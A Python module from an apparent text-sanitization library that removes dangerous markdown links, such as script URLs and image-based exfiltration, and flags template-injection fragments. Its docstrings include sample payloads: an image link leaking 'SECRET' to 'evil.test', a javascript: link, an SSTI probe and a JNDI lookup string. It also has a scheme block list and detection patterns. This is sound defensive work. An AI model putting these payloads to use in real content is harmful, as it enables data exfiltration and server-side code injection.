"""Markdown-link and template-fragment filters.

Re-exported by :mod:`keras_sanitize.text.filters`; import them from there.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from types import MappingProxyType
from typing import Any

import re2

from keras_sanitize.config import register_stage
from keras_sanitize.errors import ConfigError
from keras_sanitize.findings import Action, Severity, echo
from keras_sanitize.stage import Context, Filter, check_choice
from keras_sanitize.text import _unicode as U
from keras_sanitize.text._unicode import frozen_names as _frozen
from keras_sanitize.text._unicode import recompose as _recompose
from keras_sanitize.text.encoders import require_str

__all__ = ["DEFAULT_BAD_SCHEMES", "DEFAULT_FRAGMENT_PATTERNS", "FragmentFilter", "LinkFilter"]

_MD_LINK = re2.compile(r"(!?)\[([^\]\n]*)\]\(\s*<?((?:[^()\s>]|\([^()\s]*\))*)>?(?:\s+\"[^\"\n]*\")?\s*\)")
_BARE_SCHEME = re2.compile(r"(?i)\b(javascript|vbscript|livescript|data)\s*:")
_HOST = re.compile(r"^[a-z][a-z0-9+.-]*://([^/?#:@\s]*@)?([^/?#:\s]+)", re.IGNORECASE)
#: Rounds of link removal before remaining link syntax is broken up instead.
MAX_PASSES = 8
#: Schemes refused in links.
DEFAULT_BAD_SCHEMES: frozenset[str] = frozenset({"javascript", "vbscript", "livescript", "data", "file"})


@register_stage()
class LinkFilter(Filter):
    """Neutralize dangerous links in markdown: script URLs and image exfiltration.

    * ``[text](javascript:...)`` (and ``vbscript:``/``data:``/``file:``): the link is
      replaced by its text.
    * ``![alt](https://host/?q=...)`` to a host not in ``allowed_image_hosts``:
      replaced by its alt text (a rendered image would send the query string,
      possibly holding secrets, to that host).
    * A bare ``javascript:``/``vbscript:``/``data:`` URL elsewhere is reported
      as a warning and left as text.

    Example:
        >>> LinkFilter().run("see ![x](https://evil.test/p.png?q=SECRET)").value
        'see x'
        >>> LinkFilter().run("[click](javascript:alert(1))").value
        'click'
        >>> LinkFilter(allowed_image_hosts=["img.example.com"]).run("![a](https://img.example.com/a.png)").ok
        True
    """

    modality = "text"

    def __init__(self, allowed_image_hosts: Iterable[str] = (), **kwargs: Any) -> None:
        super().__init__(**kwargs)
        self.allowed_image_hosts = _frozen(type(self).__name__, "allowed_image_hosts", allowed_image_hosts)

    def _image_ok(self, url: str) -> bool:
        m = _HOST.match(url)
        if m is None:
            return not re.match(r"^[a-z][a-z0-9+.-]*:|^//", url, re.IGNORECASE)  # relative path
        host = m.group(2).lower().rstrip(".")
        return any(host == h or host.endswith("." + h) for h in self.allowed_image_hosts)

    def process(self, value: Any, ctx: Context) -> Any:
        text = U.re2_safe(require_str(ctx, value))
        if "](" not in text and ":" not in text:
            return text
        removed: list[dict[str, str]] = []
        if "](" in text:

            def fix(m: Any) -> str:
                bang, label, url = m.group(1), m.group(2), m.group(3)
                scheme = url.split(":", 1)[0].strip().lower() if ":" in url else ""
                if scheme in DEFAULT_BAD_SCHEMES:
                    removed.append({"kind": "script_link", "url": url[:200]})
                    return str(label)
                if bang and not self._image_ok(url):
                    removed.append({"kind": "image_exfiltration", "url": url[:200]})
                    return str(label)
                return str(m.group(0))

            # Removing an outer link can expose an inner one: repeat (each pass is linear),
            # and past MAX_PASSES break every remaining "](" so no link can form at all.
            for _ in range(MAX_PASSES):
                cleaned = _recompose(text, _MD_LINK.sub(fix, text))
                if cleaned == text:
                    break
                text = cleaned
            else:
                removed.append({"kind": "nesting", "url": ""})
                text = text.replace("](", "] (")
        if removed:
            ctx.add(
                "text.dangerous_link",
                f"{len(removed)} markdown link(s)/image(s) removed: script URLs and images on "
                f"hosts outside allowed_image_hosts (data exfiltration); first {echo(removed[0]['url'])}",
                severity=Severity.HIGH,
                action=Action.SANITIZE,
                detail={"removed": removed[:20]},
            )
        bare = _BARE_SCHEME.search(text) if ":" in text else None
        if (bare is not None and bare.group(1).lower() != "data") or (
            bare is not None
            and re.match(r"data\s*:\s*text/html", text[bare.start() : bare.start() + 40], re.I)
        ):
            assert bare is not None
            ctx.add(
                "text.script_url",
                f"text holds a {bare.group(1).lower()}: URL at offset {bare.start()} "
                f"({echo(text[bare.start() : bare.start() + 40])}); harmless as plain text, "
                f"dangerous if rendered as a link",
                severity=Severity.LOW,
                action=Action.WARN,
                span=(bare.start(), bare.end()),
            )
        return text

    def get_config(self) -> dict[str, Any]:
        config = super().get_config()
        config.update(allowed_image_hosts=sorted(self.allowed_image_hosts))
        return config


#: Template and server-side-include fragments, by name (RE2 syntax).
DEFAULT_FRAGMENT_PATTERNS: Mapping[str, str] = MappingProxyType({
    "jinja": r"\{\{[^\n]*?\}\}|\{%[^\n]*?%\}",
    "js_template": r"\$\{[^}\n]*\}",
    "erb_asp": r"<%[\s\S]*?%>",
    "ssi": r"<!--#[\s\S]*?-->",
    "expression_language": r"#\{[^}\n]*\}",
})


@register_stage()
class FragmentFilter(Filter):
    """Report, strip or refuse template and server-side-include fragments.

    ``{{ }}``, ``{% %}``, ``${ }``, ``<% %>``, ``<!--# -->`` and ``#{ }`` reach
    template engines that evaluate them (SSTI). Code questions contain them
    innocently, so the default ``mode`` is ``"warn"``.

    Args:
        patterns: name -> RE2 pattern (linear time).
        mode: ``"warn"``, ``"strip"`` or ``"reject"``.

    Example:
        >>> FragmentFilter(mode="strip").run("hi {{7*7}} there").value
        'hi  there'
        >>> FragmentFilter().run("${jndi:ldap://x}").findings[0].detail["kinds"]
        ['js_template']
    """

    modality = "text"

    def __init__(
        self, patterns: Mapping[str, str] = DEFAULT_FRAGMENT_PATTERNS, mode: str = "warn", **kwargs: Any
    ) -> None:
        super().__init__(**kwargs)
        owner = type(self).__name__
        self.mode = check_choice(owner, "mode", mode, ("warn", "strip", "reject"))
        if not isinstance(patterns, Mapping) or not patterns:
            raise ConfigError(
                f"{owner}: patterns must be a non-empty mapping name -> regex. Received: {patterns!r}"
            )
        self.patterns = {str(k): str(v) for k, v in patterns.items()}
        self._compiled = {}
        for name, pattern in self.patterns.items():
            try:
                self._compiled[name] = re2.compile(pattern)
            except re2.error as exc:
                raise ConfigError(f"{owner}: patterns[{name!r}] is not valid RE2: {exc}") from None
        self._any = re2.compile("|".join(f"(?:{p})" for p in self.patterns.values()))

    def process(self, value: Any, ctx: Context) -> Any:
        text = U.re2_safe(require_str(ctx, value))
        if not any(c in text for c in "{%#"):
            return text
        first = self._any.search(text)
        if first is None:
            return text
        kinds = [name for name, rx in self._compiled.items() if rx.search(text) is not None]
        action = {"warn": Action.WARN, "strip": Action.SANITIZE, "reject": Action.REJECT}[self.mode]
        out = _recompose(text, self._any.sub("", text)) if self.mode == "strip" else text
        ctx.add(
            "text.template_fragment",
            f"text holds template/SSI fragments ({', '.join(kinds)}), first "
            f"{echo(first.group(), 60)} at offset {first.start()}: template engines evaluate them. "
            f"Mode {self.mode!r}.",
            severity=Severity.MEDIUM,
            action=action,
            span=(first.start(), first.end()),
            detail={"kinds": kinds},
        )
        return out

    def get_config(self) -> dict[str, Any]:
        config = super().get_config()
        config.update(patterns=dict(self.patterns), mode=self.mode)
        return config
